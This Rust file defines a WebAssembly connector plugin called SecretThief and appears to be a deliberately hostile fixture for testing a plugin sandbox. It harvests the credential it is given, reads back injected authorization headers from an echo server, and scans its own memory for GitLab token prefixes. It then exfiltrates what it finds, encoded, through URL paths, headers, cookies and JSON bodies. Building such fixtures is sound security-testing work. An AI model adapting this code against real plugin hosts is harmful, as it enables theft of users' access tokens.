//! Looks for the credential wherever a guest can look, and sends what it finds out through path, header and body.
//!
//! It knows what the credential begins with, as any thief would.
#![no_main]
#![expect(unsafe_code, reason = "a thief reads all of the memory, whatever Rust thinks is there")]

use hostile::connector::{Batch, Configuration, Credential, Cursor, Failure};
use hostile::{Behaviour, http, told};
use wasi::http::types::{Fields, Method, OutgoingBody};

struct SecretThief;

/// The beginning of a GitLab token, in two pieces, so that looking for it does not find this.
const BEGINNING: [&str; 2] = ["glp", "at-"];

impl Behaviour for SecretThief {
    fn collect(config: Configuration, credential: Credential, _: Option<Cursor>) -> Result<Batch, Failure> {
        let mut loot = Vec::new();
        if let Credential::Value(secret) = &credential {
            loot.push(secret.clone());
        }
        let target = http::granted(&config);
        // A placeholder for the host to fill in, and the very fields to read it back from.
        let fields = Fields::new();
        let _ = fields.append("authorization", b"placeholder");
        let request = http::request(&Method::Get, &target, "/echo", fields).expect("it is well-formed");
        let kept = request.headers();
        let answered = http::send(request).and_then(|future| http::answer(&future));
        loot.extend(kept.entries().iter().map(|(_, value)| String::from_utf8_lossy(value).into_owned()));
        if let Ok(response) = &answered {
            // The server echoes what it was sent, in head and body.
            let head = response.headers().entries();
            loot.extend(head.iter().map(|(_, value)| String::from_utf8_lossy(value).into_owned()));
            loot.push(String::from_utf8_lossy(&http::body(response)).into_owned());
        }
        loot.push(scanned());
        send_out(&config, &loot.join(" "));
        Ok(told(loot))
    }
}

/// All of the guest's own memory, searched for what a token begins with.
fn scanned() -> String {
    let beginning = BEGINNING.concat();
    let found = |address: usize| {
        // SAFETY: within the linear memory, whatever Rust thinks is there.
        let read = |offset| unsafe { std::ptr::with_exposed_provenance::<u8>(address + offset).read_volatile() };
        beginning.bytes().enumerate().all(|(offset, byte)| read(offset) == byte)
    };
    let end = std::arch::wasm32::memory_size(0) * 65_536 - beginning.len();
    // Its own copy of the beginning is there, too, and no token follows it.
    format!("scan: {}", (1..end).filter(|address| found(*address)).count())
}

fn send_out(config: &Configuration, loot: &str) {
    let hex: String = loot.bytes().map(|byte| format!("{byte:02x}")).collect();
    let reversed: String = loot.chars().rev().filter(char::is_ascii_alphanumeric).collect();
    let plain: String = loot.chars().filter(|character| character.is_ascii_graphic()).collect();
    let target = http::granted(config);
    let short = |text: &str| text.chars().take(4_000).collect::<String>();
    let _ = http::get(&target, &format!("/loot/{}?hex={}", short(&reversed), short(&hex)));
    // Fields that no plugin sends, and then those that it may.
    for names in [["x-loot", "cookie"], ["user-agent", "accept-language"]] {
        let fields = Fields::new();
        let _ = fields.append("content-type", b"application/json");
        for (name, text) in names.iter().zip([&plain, &hex]) {
            let _ = fields.append(name, short(text).as_bytes());
        }
        post(config, fields, &format!("\"{}\"", short(&plain).replace(['"', '\\'], "")));
    }
    // And a sign-in of its own in a body.
    let fields = Fields::new();
    let _ = fields.append("content-type", b"application/json");
    post(config, fields, "{\"query\": \"{ a }\", \"private_token\": \"mine\"}");
}

fn post(config: &Configuration, fields: Fields, text: &str) {
    let Ok(request) = http::request(&Method::Post, &http::granted(config), "/loot", fields) else { return };
    let Ok(body) = request.body() else { return };
    let Ok(future) = http::send(request) else { return };
    if let Ok(stream) = body.write() {
        let _ = stream.blocking_write_and_flush(text.as_bytes());
    }
    let _ = OutgoingBody::finish(body, None);
    let _ = http::answer(&future);
}

hostile::export!(SecretThief);
